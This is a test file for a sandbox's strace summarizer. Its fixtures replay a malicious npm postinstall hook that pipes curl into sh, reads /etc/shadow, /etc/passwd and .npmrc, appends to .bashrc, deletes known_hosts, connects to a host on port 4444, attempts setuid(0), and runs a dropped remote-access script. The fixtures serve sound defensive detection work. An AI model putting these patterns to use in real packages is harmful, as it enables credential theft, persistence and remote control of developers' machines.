import { describe, expect, it } from 'vitest';
import { parseStrace } from '@airlock/strace';
import { TraceSummarizer } from '../src/trace-summary.js';

// Lines in the shape the sandbox records (strace -f -ttt -s 4096 -v -yy), cut down from a real trace.
const NPM_ENV =
  '"npm_lifecycle_event=postinstall", "npm_package_name=evil-pkg", "npm_lifecycle_script=sh -c \'curl x | sh\'", "HOME=/home/jordan"';
const TRACE =
  [
    `20    1795486690.100000 execve("/opt/airlock/bin/airlock-exec", ["/opt/airlock/bin/airlock-exec", "/airlock/out/install.exit", "npm", "install"], ["HOME=/home/jordan"]) = 0`,
    `20    1795486690.200000 vfork() = 21`,
    `21    1795486690.300000 execve("/usr/local/bin/npm", ["npm", "install"], ["HOME=/home/jordan"]) = 0`,
    `21    1795486690.400000 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f0) = 33`,
    `33    1795486692.010000 execve("/home/jordan/projects/app/node_modules/.bin/sh", ["sh", "-c", "curl x | sh"], [${NPM_ENV}]) = -1 ENOENT (No such file or directory)`,
    `33    1795486692.020000 execve("/usr/bin/sh", ["sh", "-c", "curl x | sh"], [${NPM_ENV}]) = 0`,
    `33    1795486692.030000 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f1) = 34`,
    `34    1795486692.040000 execve("/usr/bin/curl", ["curl", "x"], [${NPM_ENV}]) = 0`,
    `34    1795486692.050000 openat(AT_FDCWD</home/jordan/projects/app>, "/home/jordan/.bashrc", O_WRONLY|O_APPEND) = 3</home/jordan/.bashrc>`,
    `34    1795486692.060000 openat(AT_FDCWD</home/jordan/projects/app>, "/etc/shadow", O_RDONLY) = -1 EACCES (Permission denied)`,
    `34    1795486692.070000 openat(AT_FDCWD</home/jordan/projects/app>, "/etc/passwd", O_RDONLY|O_CLOEXEC) = 3</etc/passwd>`,
    `34    1795486692.080000 connect(4<UNIX-STREAM:[5001]>, {sa_family=AF_UNIX, sun_path="/var/run/docker.sock"}, 110) = -1 ENOENT (No such file or directory)`,
    `34    1795486692.090000 connect(5<TCP:[5002]>, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("203.0.113.7")}, 16) = -1 ENETUNREACH (Network is unreachable)`,
    `34    1795486692.100000 setuid(0) = -1 EPERM (Operation not permitted)`,
    `34    1795486692.110000 unlink("/home/jordan/.ssh/known_hosts") = 0`,
  ].join('\n') + '\n';

function summarize(phase: 'install' | 'import' = 'install') {
  const summarizer = new TraceSummarizer(phase, 'evil-pkg');
  for (const event of parseStrace(TRACE).events) summarizer.add(event);
  return summarizer.summary;
}

describe('TraceSummarizer', () => {
  it('lists successful execs with parent, argv and the lifecycle script they ran under, hiding the runner', () => {
    const { processes } = summarize();
    expect(processes.map((p) => [p.pid, p.ppid, p.path, p.argv])).toEqual([
      [21, 20, '/usr/local/bin/npm', ['npm', 'install']],
      [33, 21, '/usr/bin/sh', ['sh', '-c', 'curl x | sh']],
      [34, 33, '/usr/bin/curl', ['curl', 'x']],
    ]);
    expect(processes[0]!.attribution).toBeNull();
    expect(processes[2]!.attribution).toEqual({ packageName: 'evil-pkg', event: 'postinstall', script: "sh -c 'curl x | sh'" });
  });

  it('keeps writes and mutations, not reads, each with its normalised path', () => {
    expect(summarize().fileWrites.map((w) => [w.operation, w.path, w.normalizedPath, w.result])).toEqual([
      ['write', '/home/jordan/.bashrc', '<HOME>/.bashrc', 'ok'],
      ['unlink', '/home/jordan/.ssh/known_hosts', '<HOME>/.ssh/known_hosts', 'ok'],
    ]);
  });

  it('decodes connect attempts, unix and inet', () => {
    expect(summarize().connections.map((c) => [c.family, c.address, c.port, c.result])).toEqual([
      ['AF_UNIX', '/var/run/docker.sock', null, 'ENOENT'],
      ['AF_INET', '203.0.113.7', 4444, 'ENETUNREACH'],
    ]);
  });

  it('lists what the kernel refused', () => {
    expect(summarize().denied.map((d) => [d.syscall, d.target, d.normalizedTarget, d.result])).toEqual([
      ['openat', '/etc/shadow', '/etc/shadow', 'EACCES'],
      ['setuid', 'uid 0', 'uid 0', 'EPERM'],
    ]);
  });

  it('attributes every import-phase process to the package', () => {
    const { processes } = summarize('import');
    expect(processes.every((p) => p.attribution?.packageName === 'evil-pkg')).toBe(true);
    expect(processes[0]!.attribution?.event).toBe('import');
  });
});

describe('TraceSummarizer, drops and missing programs', () => {
  const lines =
    [
      `50    1795486700.100000 execve("/usr/bin/python3", ["python3", "setup.py"], ["HOME=/home/jordan"]) = 0`,
      `50    1795486700.200000 rename("/tmp/pip-req-build-x/remote-access.py", "/home/jordan/remote-access.py") = 0`,
      `50    1795486700.300000 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f1) = 51`,
      `51    1795486700.400000 execve("/home/jordan/.local/bin/powershell", ["powershell", "-enc", "AAAA"], ["HOME=/home/jordan"]) = -1 ENOENT (No such file or directory)`,
      `51    1795486700.410000 execve("/usr/bin/powershell", ["powershell", "-enc", "AAAA"], ["HOME=/home/jordan"]) = -1 ENOENT (No such file or directory)`,
      `51    1795486700.500000 exit_group(255) = ?`,
      `51    1795486700.510000 +++ exited with 255 +++`,
      `50    1795486700.600000 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f1) = 52`,
      `52    1795486700.700000 execve("/home/jordan/.local/bin/id", ["id"], ["HOME=/home/jordan"]) = -1 ENOENT (No such file or directory)`,
      `52    1795486700.710000 execve("/usr/bin/id", ["id"], ["HOME=/home/jordan"]) = 0`,
    ].join('\n') + '\n';
  const summarize = () => {
    const s = new TraceSummarizer('install', 'dropper');
    for (const event of parseStrace(lines).events) s.add(event);
    return s.summary;
  };

  it('lists a rename under its new name, with the old one as source', () => {
    expect(summarize().fileWrites).toContainEqual(
      expect.objectContaining({
        operation: 'rename',
        path: '/home/jordan/remote-access.py',
        source: '/tmp/pip-req-build-x/remote-access.py',
        result: 'ok',
      }),
    );
  });

  it("lists an ENOEXEC exec before the C library's /bin/sh fallback: both are the same file being run", () => {
    const trace =
      [
        `60    1795486692.010000 execve("/home/jordan/projects/app/node_modules/evil-pkg/bin/tool", ["/home/jordan/projects/app/node_modules/evil-pkg/bin/tool", "--version"], [${NPM_ENV}]) = -1 ENOEXEC (Exec format error)`,
        `60    1795486692.011000 execve("/bin/sh", ["/bin/sh", "/home/jordan/projects/app/node_modules/evil-pkg/bin/tool", "--version"], [${NPM_ENV}]) = 0`,
      ].join('\n') + '\n';
    const summarizer = new TraceSummarizer('install', 'evil-pkg');
    for (const event of parseStrace(trace).events) summarizer.add(event);
    expect(summarizer.summary.processes.map((p) => [p.pid, p.path, p.result])).toEqual([
      [60, '/home/jordan/projects/app/node_modules/evil-pkg/bin/tool', 'ENOEXEC'],
      [60, '/bin/sh', 'ok'],
    ]);
  });

  it('lists an exec that never succeeded (a missing powershell) once, and hides a PATH search that did', () => {
    const processes = summarize().processes.map((p) => [p.pid, p.argv[0], p.result]);
    expect(processes).toEqual([
      [50, 'python3', 'ok'],
      [51, 'powershell', 'ENOENT'],
      [52, 'id', 'ok'],
    ]);
  });

  it("credits a thread's writes and connects to its process (Node's thread pool writes for the script)", () => {
    const trace =
      [
        `40    1795486690.100000 execve("/usr/local/bin/node", ["node", "dropper.js"], [${NPM_ENV}]) = 0`,
        `40    1795486690.200000 clone3({flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM|CLONE_SETTLS|CLONE_PARENT_SETTID|CLONE_CHILD_CLEARTID, child_tid=0x7f9, parent_tid=0x7f9, exit_signal=0, stack=0x7f0, stack_size=0x7ff, tls=0x7f8} => {parent_tid=[41]}, 88) = 41`,
        `41    1795486690.300000 openat(AT_FDCWD</home/jordan/projects/app>, "/tmp/ld.py", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0666) = 5</tmp/ld.py>`,
        `41    1795486690.310000 openat(AT_FDCWD</home/jordan/projects/app>, "/home/jordan/.npmrc", O_RDONLY|O_CLOEXEC) = 6</home/jordan/.npmrc>`,
      ].join('\n') + '\n';
    const summarizer = new TraceSummarizer('install', 'evil-pkg');
    for (const event of parseStrace(trace).events) summarizer.add(event);
    const { fileWrites, sensitiveFiles } = summarizer.summary;
    expect(fileWrites.map((w) => [w.pid, w.path])).toEqual([[40, '/tmp/ld.py']]);
    expect(sensitiveFiles.map((f) => [f.pid, f.path])).toEqual([[40, '/home/jordan/.npmrc']]);
  });
});
